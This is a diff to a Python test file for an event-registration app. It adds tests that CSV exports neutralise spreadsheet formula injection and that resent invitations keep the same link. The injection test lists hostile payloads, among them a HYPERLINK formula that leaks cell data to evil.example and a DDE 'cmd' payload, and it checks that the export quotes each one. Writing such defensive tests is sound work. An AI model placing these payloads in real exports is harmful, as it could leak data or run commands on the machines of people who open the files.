@@ -396,15 +396,75 @@ def test_the_csv_export_has_every_field_and_answer(client, crowd):
 
 def test_the_export_streams_in_chunks_of_many_rows(app, client, crowd, monkeypatch):
     """Rows are sent on a few hundred at a time: memory stays flat, and the socket gets few large writes."""
+    from eventmgr import spreadsheets
     from eventmgr.registration import desk as desk_service
 
     event, _people, _things = crowd
     whole = client.get(desk(event, "/registrations.csv")).data.decode("utf-8")
-    monkeypatch.setattr(desk_service, "CSV_CHUNK", 300)  # about two rows
+    monkeypatch.setattr(spreadsheets, "CSV_CHUNK", 300)  # about two rows
     with app.test_request_context():
-        chunks = list(desk_service.export_csv(event, {}))
+        chunks = list(spreadsheets.csv_text(*desk_service.export_table(event, {})))
     assert 3 <= len(chunks) <= 4  # the header, then rows two or so at a time, not one chunk per row
     assert "".join(chunks) == whole
+
+
+#: What delegates and organisers type, and what the export holds for it.
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1)": "'@SUM(1)",
+    # A tab or line break is a separator too: the sign after it gets its own quote.
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    # A spreadsheet splitting on ";" (or ignoring the quotes) would start a cell after the separator.
+    "Aida;=1+1": "Aida;'=1+1",
+    'x","=1+1': 'x","\'=1+1',
+}
+
+
+def test_no_cell_of_the_export_can_run_as_a_formula(client, db, desk_event):
+    """Names, labels, answers and codes typed by anyone come back as text; the app's own numbers stay numbers."""
+    event = desk_event
+    event.fee = Decimal("100")
+    labels = list(HOSTILE)[:4]
+    questions = [services.add_question(event, {"label": label, "kind": "short_text"}) for label in labels]
+    choice = services.add_question(event, {"label": "Topics", "kind": "multiple_choice",
+                                           "options": ["=1+1", "@A1"]})
+    offer = OfferCode(event_id=event.id, code="-SUM", discount_kind="fixed", discount=Decimal("10"))
+    db.session.add(offer)
+    db.session.commit()
+    for n, value in enumerate(HOSTILE):
+        add(db, event, f"d{n}@example.org", given_name=value, family_name=value, position=value,
+            organisation_name=value, delegation=value, dietary_needs=value, accessibility_needs=value,
+            offer_code="-SUM" if n == 0 else None,
+            answers={str(q.id): value for q in questions} | {str(choice.id): ["=1+1", "@A1"]})
+    raw = client.get(desk(event, "/registrations.csv")).data.decode("utf-8").removeprefix("\ufeff")
+    rows = list(csv.reader(io.StringIO(raw)))
+    header, body_rows = rows[0], rows[1:]
+    assert header[-5:] == [HOSTILE[label] for label in labels] + ["Topics"]
+    assert len(body_rows) == len(HOSTILE)
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+    by_email = {row[header.index("email")]: dict(zip(header, row, strict=True)) for row in body_rows}
+    for n, (value, shown) in enumerate(HOSTILE.items()):
+        row = by_email[f"d{n}@example.org"]
+        for column in ("given_name", "family_name", "position", "organisation", "delegation", "dietary_needs",
+                       "accessibility_needs"):
+            assert row[column] == shown, (column, row[column])
+        trimmed = "'=1+1" if value.strip() == "=1+1" else shown  # answers are kept trimmed
+        assert row[header[-5]] == trimmed, value
+        assert row["Topics"] == "'=1+1; '@A1"
+    assert by_email["d0@example.org"]["offer_code"] == "'-SUM"
+    # The app's own numbers are written bare, so spreadsheets read them as numbers; all text is quoted.
+    with_code = next(line for line in raw.splitlines() if '"d0@example.org"' in line)
+    assert re.match(r'\d+,"confirmed",', with_code)
+    assert re.search(r',90\.00,0,"', with_code)
+    # Split on any separator, heeding no quotes, as the crudest spreadsheet in another locale would: still no
+    # piece starts a formula.
+    for piece in re.split(r"[,;\t\r\n|]", raw):
+        assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), piece
 
 
 def test_the_export_follows_the_filters(client, crowd):
@@ -674,6 +734,37 @@ def test_invitations_by_text_and_by_csv_upload(client, db, make_event, organiser
     invitations = [m for m in mailbox.messages if m["Subject"] == f"Invitation to register: {event.title}"]
     assert sorted(m["To"] for m in invitations) == ["aida@example.kz", "bakyt@example.kg", "nodira@example.uz"]
     assert "Dear Nodira Karimova" in body(next(m for m in invitations if m["To"] == "nodira@example.uz"))
+
+
+def test_an_invitation_is_sent_again_with_the_same_link(client, db, make_event, organiser, login, mailbox):
+    event = make_event(organiser=organiser, registration_policy="invitation")
+    other = make_event(organiser=organiser, registration_policy="invitation", title="Another conference")
+    services.invite(event, [("aida@example.kz", "Aida Nurlanova"), ("bakyt@example.kg", None)], organiser)
+    services.invite(other, [("nodira@example.uz", None)], organiser)
+    services.register(event, {"given_name": "Aida", "family_name": "Nurlanova", "country": "KZ"},
+                      invitation=services.invitation_for(event, "aida@example.kz"))
+    db.session.commit()
+    login(organiser)
+    page = client.get(desk(event, "/registration-settings"))
+    rows = re.findall(r"<tr>\s*<td>([^<]+)</td>.*?</tr>", page.text, re.S)
+    assert rows == ["aida@example.kz", "bakyt@example.kg"]
+    assert "Confirmed" in text_of(page) and "Not registered" in text_of(page)
+    mailbox.deliver()
+    first = next(m for m in mailbox.messages if m["To"] == "bakyt@example.kg")
+    bakyt = services.invitation_for(event, "bakyt@example.kg")
+    response = settings_post(client, event, {"form": "resend", "invitation_id": bakyt.id})
+    assert response.status_code == 302
+    assert "The invitation to bakyt@example.kg is sent again." in client.get(response.location).text
+    mailbox.deliver()
+    sent = [m for m in mailbox.messages if m["To"] == "bakyt@example.kg"]
+    link = re.compile(r"/events/\S+/register\?invitation=\S+")
+    assert len(sent) == 2 and link.findall(body(sent[1])) == link.findall(body(first)) != []
+    assert bakyt.token in body(sent[1])
+    foreign = services.invitation_for(other, "nodira@example.uz")
+    assert settings_post(client, event, {"form": "resend", "invitation_id": foreign.id}).status_code == 404
+    assert settings_post(client, event, {"form": "resend", "invitation_id": "999999"}).status_code == 404
+    mailbox.deliver()
+    assert [m["To"] for m in mailbox.messages].count("nodira@example.uz") == 1  # its first invitation only
 
 
 @pytest.mark.parametrize("data, field", [
